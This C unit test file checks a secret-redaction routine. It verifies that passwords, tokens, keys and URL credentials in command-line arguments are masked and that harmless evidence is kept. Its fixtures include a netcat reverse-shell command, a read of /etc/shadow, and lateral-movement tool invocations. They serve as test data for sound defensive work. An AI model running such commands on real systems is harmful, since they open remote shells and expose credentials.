/* SPDX-License-Identifier: Apache-2.0 */
/* Secrets in arguments: none may come through; what is evidence should. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/cleanup.h"
#include "base/redact.h"

/* Arguments are separated by | in here. */
struct row {
	const char *args;
	const char *expected;
};

static const struct row hidden[] = {
	/* names with a value */
	{"app|--password=hunter2", "app --password=***"},
	{"app|--password|hunter2|--host|db1", "app --password *** --host db1"},
	{"app|--PassWord|hunter2", "app --PassWord ***"},
	{"app|-password|hunter2", "app -password ***"},
	{"app|--db-pass=x|-v", "app --db-pass=*** -v"},
	{"app|--dbPass|x", "app --dbPass ***"},
	{"app|token=abc", "app token=***"},
	{"app|--api-key=k|--api_key=k|--apikey|k", "app --api-key=*** --api_key=*** --apikey ***"},
	{"env|PGPASSWORD=x|psql|-h|db", "env PGPASSWORD=*** psql -h db"},
	{"env|AWS_SECRET_ACCESS_KEY=x|AWS_ACCESS_KEY_ID=y|aws|s3|ls",
	 "env AWS_SECRET_ACCESS_KEY=*** AWS_ACCESS_KEY_ID=*** aws s3 ls"},
	{"env|MYSQL_PWD=x|mysql", "env MYSQL_PWD=*** mysql"},
	{"env|SSHPASS=x|sshpass|-e|ssh|h", "env SSHPASS=*** sshpass -e ssh h"},
	{"app|--password=two words", "app --password=***"},
	{"app|--password=a,b&c=d;e", "app --password=***"},
	{"app|--password|--token|abc", "app --password *** ***"},
	{"app|--password||visible", "app --password  visible"},
	{"mount|-o|username=x,password=y,vers=3", "mount -o username=x,password=***"},
	{"app|Server=db;Uid=sa;Pwd=x;", "app Server=db;Uid=sa;Pwd=***"},
	{"app|{\"user\":\"a\",\"password\":\"b\"}", "app {\"user\":\"a\",\"password\":***"},
	{"app|{\"password\": \"b c\", \"x\": 1}", "app {\"password\":***"},
	{"aws|configure|set|aws_secret_access_key|X",
	 "aws configure set aws_secret_access_key ***"},
	{"redis-cli|AUTH|x", "redis-cli AUTH ***"},
	{"redis-cli|config|set|requirepass|x", "redis-cli config set requirepass ***"},
	{"openssl|enc|-pass|pass:x|-in|f", "openssl enc -pass *** -in f"},
	{"openssl|enc|-passin=pass:x", "openssl enc -passin=***"},
	/* headers */
	{"curl|-H|Authorization: Bearer abc.def|http://h/", "curl -H Authorization:*** http://h/"},
	{"curl|-H|authorization:Basic YTpi", "curl -H authorization:***"},
	{"curl|-H|X-Auth-Token: abc", "curl -H X-Auth-Token:***"},
	{"curl|--header=Cookie: a=b", "curl --header=Cookie:***"},
	{"app|Bearer|abc", "app Bearer ***"},
	/* programs with options of their own */
	{"mysql|-uroot|-phunter2|-h|db", "mysql -uroot -p*** -h db"},
	{"/usr/bin/mysqldump|-psecret|-P|3306|all", "/usr/bin/mysqldump -p*** -P 3306 all"},
	{"sudo|-u|bob|mysql|-px", "sudo -u bob mysql -p***"},
	{"curl|-u|user:pass|https://h", "curl -u *** https://h"},
	{"curl|-uuser:pass|https://h", "curl -u*** https://h"},
	{"curl|-sSu|user:pass|h", "curl -sSu *** h"},
	{"curl|--user|user:pass|h", "curl --user *** h"},
	{"curl|--user=user:pass|h", "curl --user=*** h"},
	{"curl|--proxy-user|user:pass", "curl --proxy-user ***"},
	{"sshpass|-p|x|ssh|-p|2222|root@h", "sshpass -p *** ssh -p 2222 root@h"},
	{"sshpass|-px|ssh|root@10.0.0.7", "sshpass -p*** ssh root@10.0.0.7"},
	{"redis-cli|-a|x|ping", "redis-cli -a *** ping"},
	{"ldapsearch|-x|-w|pw|-b|dc=a", "ldapsearch -x -w *** -b dc=a"},
	{"smbclient|//h/share|-U|user%pass", "smbclient //h/share -U ***"},
	{"docker|login|-u|me|-p|x|reg", "docker login -u me -p *** reg"},
	{"7z|a|-psecret|f.7z", "7z a -p*** f.7z"},
	{"nxc|smb|10.0.0.0/24|-u|a|-p|b|-H|c", "nxc smb 10.0.0.0/24 -u a -p *** -H ***"},
	{"psexec.py|corp/admin:Pa55@10.0.0.9", "psexec.py corp/admin:***@10.0.0.9"},
	{"xfreerdp|/u:a|/p:b|/v:h", "xfreerdp /u:a /p:*** /v:h"},
	{"plink|-pw|x|h", "plink -pw *** h"},
	{"htpasswd|-b|f|bob|x", "htpasswd -b *** *** ***"},
	{"ipmitool|-U|a|-P|b", "ipmitool -U a -P ***"},
	/* URLs and logins */
	{"git|clone|https://bob:hunter2@git.corp/x.git",
	 "git clone https://bob:***@git.corp/x.git"},
	{"psql|postgres://u:p%40ss@db:5432/x", "psql postgres://u:***@db:5432/x"},
	{"app|redis://:p@h", "app redis://:***@h"},
	{"app|amqp://u:p@ss@h/v", "app amqp://u:***@h/v"},
	{"app|ftp://u:p/w@h/f", "app ftp://u:***@h/f"},
	{"app|--url=http://u:p@h", "app --url=http://u:***@h"},
	{"curl|http://h/?a=1&access_token=x&b=2", "curl http://h/?a=1&access_token=***"},
	{"app|bob:pw@host", "app bob:***@host"},
	/* known forms */
	{"app|ghp_abcdefABCDEF012345", "app ***"},
	{"app|x=AKIAIOSFODNN7EXAMPLE", "app x=***"},
	{"app|eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc", "app ***.***.abc"},
	{"usermod|-p|$6$salt$hash|bob", "usermod -p *** bob"},
	{"app|a:$6$salt$hash/x.y", "app a:***"},
	{"app|-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blb\n-----END", "app ***"},
	{"app|x -----BEGIN RSA PRIV", "app ***"},
	/* long random text */
	{"app|d41d8cd98f00b204e9800998ecf8427e", "app ***"},
	{"app|550e8400-e29b-41d4-a716-446655440000", "app ***"},
	{"app|wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "app ***"},
	{"app|c2VjcmV0IHZhbHVlIDEyMw==", "app ***"},
	{"app|--opt=Zm9vYmFyMTIzNDU2Nzg5MA==", "app --opt=***"},
	{"app|a4f9k2m8x1q7z3w6b5n0", "app ***"},
	{"app|(Xk29fLq0Zr7TnW3sVb8Y)", "app (***)"},
	/* a program's text */
	{"sh|-c|mysql -psecret -h db", "sh -c mysql -p*** -h db"},
	{"bash|-lc|PGPASSWORD=x psql -h db", "bash -lc PGPASSWORD=*** psql -h db"},
	{"sh|-c|PGPASSWORD='a b' psql", "sh -c PGPASSWORD=*** psql"},
	{"sh|-c|app --password 'a b' --host h", "sh -c app --password *** --host h"},
	{"sh|-c|app --password=a\\ b -v", "sh -c app --password=*** -v"},
	{"sh|-c|curl -H \"Authorization: Bearer x y\" h", "sh -c curl -H \"Authorization:***\" h"},
	{"sh|-c|curl -H Authorization:\\ Bearer\\ x h", "sh -c curl -H Authorization:*** h"},
	{"sh|-c|export TOKEN=x; run", "sh -c export TOKEN=*** run"},
	{"ssh|h|mysql -psecret", "ssh h mysql -p***"},
	{"su|-c|sshpass -p x ssh h", "su -c sshpass -p *** ssh h"},
	{"sh|-c|it's --password x y", "sh -c it's --password *** y"},
};

static const struct row kept[] = {
	{"", ""},
	{"ls|-la|/tmp", "ls -la /tmp"},
	{"ssh|-p|2222|-i|/home/a/.ssh/id_ed25519|root@10.0.1.7",
	 "ssh -p 2222 -i /home/a/.ssh/id_ed25519 root@10.0.1.7"},
	{"ssh|-o|PasswordAuthentication=no|-J|b@h1|h2",
	 "ssh -o PasswordAuthentication=no -J b@h1 h2"},
	{"ssh|-L|8080:10.0.0.9:80|h", "ssh -L 8080:10.0.0.9:80 h"},
	{"scp|f|bob@10.0.0.7:/tmp/x", "scp f bob@10.0.0.7:/tmp/x"},
	{"rsync|-a|host:/pool@snap|.", "rsync -a host:/pool@snap ."},
	{"git|clone|git@github.com:o/r.git", "git clone git@github.com:o/r.git"},
	{"cat|/etc/passwd|/etc/shadow", "cat /etc/passwd /etc/shadow"},
	{"passwd|alice", "passwd alice"},
	{"sudo|passwd|alice", "sudo passwd alice"},
	{"app|--password-file=/etc/x", "app --password-file=/etc/x"},
	{"docker|login|--password-stdin|reg", "docker login --password-stdin reg"},
	{"sudo|--no-password|x", "sudo --no-password x"},
	{"curl|http://10.0.0.9:8080/a@b", "curl http://10.0.0.9:8080/a@b"},
	{"curl|-o|/dev/null|https://h/p", "curl -o /dev/null https://h/p"},
	{"nc|-e|/bin/sh|10.0.0.9|4444", "nc -e /bin/sh 10.0.0.9 4444"},
	{"/usr/lib/x86_64-linux-gnu/libQt5WebEngineWidgets.so.5.15.8",
	 "/usr/lib/x86_64-linux-gnu/libQt5WebEngineWidgets.so.5.15.8"},
	{"/opt/application-server-2/lib/commons-collections-3.2.1.jar",
	 "/opt/application-server-2/lib/commons-collections-3.2.1.jar"},
	{"python3|/usr/lib/python3/dist-packages/x.py",
	 "python3 /usr/lib/python3/dist-packages/x.py"},
	{"app|--no-such-very-long-option-name-2", "app --no-such-very-long-option-name-2"},
	{"apt|install|python3-setuptools-scm|linux-image-6.1.0-18-cloud-amd64",
	 "apt install python3-setuptools-scm linux-image-6.1.0-18-cloud-amd64"},
	{"mysql|-p|-h|db", "mysql -p -h db"},
	{"app|bypass|compass=1", "app bypass compass=1"},
	{"sshd: alice [priv]", "sshd: alice [priv]"},
	{"app|tr\xff\xfe\x01x", "app tr\xff\xfe\x01x"},
	{"app||x", "app  x"},
};

static size_t pack(char *to, const char *args)
{
	size_t n = strlen(args);

	memcpy(to, args, n);
	for (size_t i = 0; i < n; i++)
		if (to[i] == '|')
			to[i] = '\0';
	return n;
}

/* A copy of exactly that size, so that the sanitizer sees each byte read beyond it. */
static char *exact(const char *bytes, size_t n)
{
	char *copy = malloc(n ? n : 1);

	assert_non_null(copy);
	memcpy(copy, bytes, n);
	return copy;
}

/* Shown with spaces between them. */
static bool redact(const char *exe, const char *args, size_t bytes, bool cut, char *out,
		   size_t room)
{
	size_t n = SIZE_MAX;
	bool fits = sw_redact_args(exe, args, bytes, cut, out, room, &n);

	assert_true(n <= room);
	assert_true(bytes ? n && !out[n - 1] : !n);
	for (size_t i = 0; i + 1 < n; i++)
		if (!out[i])
			out[i] = ' ';
	return fits;
}

static unsigned int count_wrong(const struct row *rows, size_t count)
{
	unsigned int wrong = 0;
	char packed[256], out[512];

	for (size_t i = 0; i < count; i++) {
		size_t n = pack(packed, rows[i].args);
		char *args = exact(packed, n);

		assert_true(redact(NULL, args, n, false, out, sizeof(out)));
		if (strcmp(out, rows[i].expected) != 0) {
			print_error("%s\n  expected %s\n  got      %s\n", rows[i].args,
				    rows[i].expected, out);
			wrong++;
		}
		free(args);
	}
	return wrong;
}

static void secrets_are_hidden(void **state)
{
	(void)state;
	assert_int_equal(count_wrong(hidden, SW_ARRAY_SIZE(hidden)), 0);
}

static void evidence_is_kept(void **state)
{
	(void)state;
	assert_int_equal(count_wrong(kept, SW_ARRAY_SIZE(kept)), 0);
}

static void the_program_s_path_counts_too(void **state)
{
	char packed[64], out[64];
	size_t n = pack(packed, "innocent|-psecret");

	(void)state;
	assert_true(redact("/usr/bin/mariadb", packed, n, false, out, sizeof(out)));
	assert_string_equal(out, "innocent -p***");
}

static void a_cut_secret_is_still_one(void **state)
{
	static const struct row rows[] = {
		{"psql|postgres://bob:hunt", "psql postgres://bob:***"},
		{"app|http://10.0.0.9:80", "app http://10.0.0.9:80"},
		{"app|corp/admin:Pa5", "app corp/admin:***"},
		{"app|--password=hun", "app --password=***"},
		{"app|a4f9k2m8x1", "app ***"},
		{"app|-----BEGIN", "app ***"},
		{"app|x|", "app x"},
	};
	char packed[64], out[64];

	(void)state;
	for (size_t i = 0; i < SW_ARRAY_SIZE(rows); i++) {
		size_t n = pack(packed, rows[i].args);

		redact(NULL, packed, n, true, out, sizeof(out));
		assert_string_equal(out, rows[i].expected);
	}
}

/* However short the room, the text is whole up to where it ends and nothing is written beyond. */
static void a_short_buffer_cuts(void **state)
{
	static const char args[] = "mysql\0-psecret\0-h\0db";
	static const char whole[] = "mysql -p*** -h db";

	(void)state;
	for (size_t room = 1; room <= sizeof(whole); room++) {
		char *out = malloc(room);
		bool fits = redact(NULL, args, sizeof(args) - 1, false, out, room);

		assert_int_equal(fits, room == sizeof(whole));
		assert_int_equal(strlen(out), room - 1);
		assert_int_equal(strncmp(out, whole, room - 1), 0);
		free(out);
	}
}

/* All that the table hides stays hidden for every length that the kernel may have cut it to. */
static void no_prefix_shows_more(void **state)
{
	static const char args[] = "x\0--password=Sup3rSecretValue99\0-H\0Authorization: Bearer "
				   "Zq81kdLw02mmQpX7\0https://bob:Tr0ub4dor@h/";
	char out[256];

	(void)state;
	for (size_t n = 0; n <= sizeof(args) - 1; n++) {
		char *copy = exact(args, n);

		redact(NULL, copy, n, true, out, sizeof(out));
		assert_null(strstr(out, "Sup"));
		assert_null(strstr(out, "Zq8"));
		assert_null(strstr(out, "Tr0"));
		free(copy);
	}
}

/* Random bytes made of the table's own words: no read or write beyond, always a text. */
static void random_arguments_do_no_harm(void **state)
{
	static const char *const bits[] = {
		"--password", "=",    ":",	  "\0",	 " ",	   "'",
		"\"",	      "\\",   "curl",	  "-u",	 "mysql",  "-p",
		"://",	      "@",    "/",	  "$6$", "Bearer", "a1B2c3D4e5F6g7H8i9J0",
		"-",	      "\xff", "htpasswd", "-c"};
	uint64_t seed = 88172645463325252ULL;
	char args[128], out[64];

	(void)state;
	for (unsigned int round = 0; round < 20000; round++) {
		size_t n = 0;
		char *copy;

		while (n < 100) {
			const char *bit;
			size_t bytes;

			seed ^= seed << 13;
			seed ^= seed >> 7;
			seed ^= seed << 17;
			bit = bits[seed % SW_ARRAY_SIZE(bits)];
			bytes = *bit ? strlen(bit) : 1;
			memcpy(args + n, bit, bytes);
			n += bytes;
			if (seed >> 32 & 7) /* lengths of all kinds */
				continue;
			break;
		}
		copy = exact(args, n);
		memset(out, 'x', sizeof(out));
		redact(round & 1 ? "/usr/bin/curl" : NULL, copy, n, round & 2, out, sizeof(out));
		assert_non_null(memchr(out, '\0', sizeof(out)));
		free(copy);
	}
}

static void joined_arguments_are_whole(void **state)
{
	static const char args[] = "mysql\0-psecret\0\0x";
	char out[32];

	(void)state;
	assert_true(sw_join_args(args, sizeof(args) - 1, out, sizeof(out)));
	assert_string_equal(out, "mysql -psecret  x");
	assert_true(sw_join_args(args, sizeof(args), out, sizeof(out)));
	assert_string_equal(out, "mysql -psecret  x");
	assert_true(sw_join_args(args, 0, out, sizeof(out)));
	assert_string_equal(out, "");
	assert_false(sw_join_args(args, sizeof(args) - 1, out, 8));
	assert_string_equal(out, "mysql -");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(secrets_are_hidden),
		cmocka_unit_test(evidence_is_kept),
		cmocka_unit_test(the_program_s_path_counts_too),
		cmocka_unit_test(a_cut_secret_is_still_one),
		cmocka_unit_test(a_short_buffer_cuts),
		cmocka_unit_test(no_prefix_shows_more),
		cmocka_unit_test(random_arguments_do_no_harm),
		cmocka_unit_test(joined_arguments_are_whole),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
